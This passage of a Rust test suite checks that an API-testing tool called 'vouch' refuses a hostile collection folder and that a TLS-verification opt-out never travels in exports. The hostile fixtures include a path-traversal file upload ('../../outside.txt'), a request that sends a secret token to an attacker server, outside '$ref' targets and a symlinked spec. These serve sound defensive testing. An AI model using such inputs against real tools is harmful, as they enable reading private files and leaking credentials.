    request("upload", 1, "method: POST\npath: /upload\nbody:\n  multipart:\n  - name: stolen\n    value:\n      file:\n        path: '../../outside.txt'\n  - name: title\n    value:\n      text: kept\nbase_url: '{{baseUrl}}'\n");
    request(
        "leak",
        2,
        &format!("method: GET\npath: /leak\nheaders:\n- [X-Token, '{{{{token}}}}']\nbase_url: '{attacker}'\n"),
    );
}

/// A folder whose collection names `spec`, with the hostile folder's legit request.
fn refused_folder(
    dir: &std::path::Path,
    spec: &str,
    hostile: &std::path::Path,
) -> std::path::PathBuf {
    std::fs::create_dir_all(dir).expect("dir");
    std::fs::write(
        dir.join("collection.yaml"),
        format!("version: 2\nname: refused\nspec: '{spec}'\n"),
    )
    .expect("write");
    std::fs::copy(hostile.join("ok.yaml"), dir.join("ok.yaml")).expect("copy");
    dir.to_path_buf()
}

/// Whether `needle` is anywhere in the files of `dir` (the store: database, WAL, keys).
fn in_folder(dir: &std::path::Path, needle: &str) -> bool {
    std::fs::read_dir(dir).expect("ls").flatten().any(|f| {
        std::fs::read(f.path())
            .is_ok_and(|b| b.windows(needle.len()).any(|w| w == needle.as_bytes()))
    })
}

/// What the files outside the hostile folder hold: it may reach no request, output or store.
const OUTSIDE_MARKER: &str = "outside-marker-7c1e5a9d3b";

/// The user's own secret for the hostile folder's run (bound to the legit service).
const HOSTILE_TOKEN: &str = "tok-3f9a1c7e5b";

/// The outside files: `outside.txt` (a schema fragment, the file part's and the `$ref`'s
/// target) and `outside.json` (a spec, the symlink's and the `file://` spec's target).
fn outside_files(top: &std::path::Path) -> (std::path::PathBuf, std::path::PathBuf) {
    let outside = top.join("outside.txt");
    std::fs::write(
        &outside,
        format!("X: {{type: string, description: {OUTSIDE_MARKER}}}\n"),
    )
    .expect("write");
    let spec = top.join("outside.json");
    let doc = serde_json::json!({"openapi": "3.0.3", "paths": {},
        "info": {"title": OUTSIDE_MARKER, "version": "1"}});
    std::fs::write(&spec, doc.to_string()).expect("write");
    (outside, spec)
}

/// What `vouch run` said of the hostile folder: the leaking step failed alone, and each
/// refusal is named.
fn assert_refusals_said(out: &str, err: &str, attacker: &str, outside: &std::path::Path) {
    assert!(
        out.contains("3 steps: 2 passed, 0 failed, 1 error"),
        "{out}{err}"
    );
    assert!(
        out.contains(&format!("secret `token` may not be sent to {attacker}")),
        "{out}"
    );
    assert!(
        err.contains(
            "file part `stolen` (../../outside.txt) is not a file inside the collection: dropped"
        ),
        "{err}"
    );
    // Each refused `$ref` named in a warning (a folder's spec copy reaches no other
    // document; one loaded from its file would say `not followed`).
    let refused = |r: &str| {
        err.lines().any(|l| {
            l.starts_with("warning: the spec's $ref")
                && l.contains(r)
                && (l.contains("not followed") || l.contains("cannot reach"))
        })
    };
    assert!(
        refused(&format!("file://{}#/X", outside.display())),
        "{err}"
    );
    assert!(refused(&format!("{attacker}/schema.yaml#/X")), "{err}");
}

/// What the legit service received: the two legit steps, the token where it belongs, the
/// dropped file part empty, nothing of the outside files.
fn assert_legit_requests(requests: &[Vec<u8>]) {
    let text: Vec<String> = requests
        .iter()
        .map(|r| String::from_utf8_lossy(r).into_owned())
        .collect();
    assert_eq!(requests.len(), 2, "{text:?}");
    assert!(
        text[0].starts_with("GET /ok") && text[0].contains(HOSTILE_TOKEN),
        "{text:?}"
    );
    assert!(
        text[1].starts_with("POST /upload") && text[1].contains("kept"),
        "{text:?}"
    );
    assert!(
        text[1].contains("name=\"stolen\"\r\n\r\n\r\n--"),
        "{text:?}"
    );
    assert!(!text.iter().any(|r| r.contains(OUTSIDE_MARKER)), "{text:?}");
}

/// A hostile collection folder run with `vouch run` sends nothing outside and reads nothing
/// outside: its file part `../../outside.txt` is dropped (said), its spec's `$ref`s to
/// `file:///…` and to a second local server are not followed (said), its request carrying
/// `{{token}}` to another loopback port fails alone (said, non-zero exit) while the legit
/// steps run; a folder whose `openapi.json` is a symlink, or whose spec is a `file://` URL
/// outside, is refused whole. The attacker's server sees nothing; the outside marker is in
/// no request, no output and nowhere in the store.
#[test]
fn a_hostile_folder_run_sends_and_reads_nothing_outside() {
    use std::sync::atomic::Ordering;
    let (legit, seen, _rt1) = recording_server();
    let (attacker, attacker_hits, _rt2) = counting_server("X: {type: string}\n".into());
    let top = tempfile::tempdir().expect("tmp");
    let (outside, outside_spec) = outside_files(top.path());
    let mine = top.path().join("mine.yaml");
    std::fs::write(
        &mine,
        format!("name: mine\nvariables:\n  baseUrl: {legit}\n  token: {{value: {HOSTILE_TOKEN}, secret: true}}\n"),
    )
    .expect("write");
    let data = top.path().join("data");
    let vouch = |folder: &std::path::Path| {
        let out = crate::util::vouch()
            .args(["run", folder.to_str().expect("utf-8"), "--env"])
            .args([mine.to_str().expect("utf-8"), "--data-dir"])
            .arg(&data)
            .output()
            .expect("vouch");
        let said = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(
            !said.contains(OUTSIDE_MARKER) && !said.contains(HOSTILE_TOKEN),
            "{said}"
        );
        (
            out.status.code(),
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };

    let hostile = top.path().join("x/hostile");
    hostile_folder(&hostile, &outside, &attacker);
    let (code, out, err) = vouch(&hostile);
    assert_eq!(code, Some(1), "{out}{err}");
    assert_refusals_said(&out, &err, &attacker, &outside);
    assert_legit_requests(&seen.lock().expect("seen"));

    // A symlinked `openapi.json`, a `file://` spec outside: the whole folder is refused.
    let linked = refused_folder(&top.path().join("x/linked"), "openapi.json", &hostile);
    std::os::unix::fs::symlink(&outside_spec, linked.join("openapi.json")).expect("symlink");
    let (code, out, err) = vouch(&linked);
    assert_eq!(code, Some(2), "{out}{err}");
    assert!(
        err.contains("spec `openapi.json` is not a file inside the folder"),
        "{err}"
    );
    let url = format!("file://{}", outside_spec.display());
    let far = refused_folder(&top.path().join("x/far"), &url, &hostile);
    let (code, out, err) = vouch(&far);
    assert_eq!(code, Some(2), "{out}{err}");
    assert!(
        err.contains(&format!("spec `{url}` is not a file inside the folder")),
        "{err}"
    );

    let received = seen.lock().expect("seen").len();
    assert_eq!(received, 2, "the refused folders sent nothing");
    assert_eq!(
        attacker_hits.load(Ordering::SeqCst),
        0,
        "the attacker saw nothing"
    );
    assert!(
        !in_folder(&data, OUTSIDE_MARKER),
        "the marker is in the store"
    );
    assert!(
        !in_folder(&data, HOSTILE_TOKEN),
        "the token is in the store in clear"
    );
}

/// Turning TLS verification off is this machine's choice: a request's opt-out is kept in the
/// store but never written to an export, and a shared folder asking for it loses it, with a
/// warning. Its other settings travel.
#[test]
fn a_tls_opt_out_never_travels() {
    let top = tempfile::tempdir().expect("tmp");
    let mut store = Store::open(&top.path().join("data")).expect("store");
    let c = store.create_collection("mine", "").expect("collection");
    let settings = vouch::request::Settings {
        timeout_ms: Some(1500),
        verify_tls: Some(false),
        ..Default::default()
    };
    let draft = Draft {
        method: "GET".into(),
        path: "/x".into(),
        settings: Some(settings.clone()),
        ..Draft::default()
    };
    store
        .save_request(c.id, &saved("local", 0, draft))
        .expect("save");
    assert_eq!(
        store.requests(c.id).expect("requests")[0].draft.settings,
        Some(settings)
    );
    let out = top.path().join("shared");
    let bundle = exchange::from_store(&store, "mine").expect("bundle");
    exchange::write_folder(&bundle, &out, false).expect("export");
    let written = std::fs::read_to_string(out.join("local.yaml")).expect("file");
    assert!(written.contains("timeout_ms: 1500"), "{written}");
    assert!(!written.contains("verify_tls"), "{written}");

    // A teammate's file asking for it.
    std::fs::write(
        out.join("local.yaml"),
        written.replace("timeout_ms: 1500", "timeout_ms: 1500\n  verify_tls: false"),
    )
    .expect("write");
    let read = exchange::read_folder(&out).expect("reads");
    let s = read.requests[0].draft.settings.clone().expect("settings");
    assert_eq!((s.timeout_ms, s.verify_tls), (Some(1500), None));
    assert!(
        read.warnings
            .iter()
            .any(|w| w.contains("`local`") && w.contains("TLS verification opt-out")),
        "{:?}",
        read.warnings
    );
}
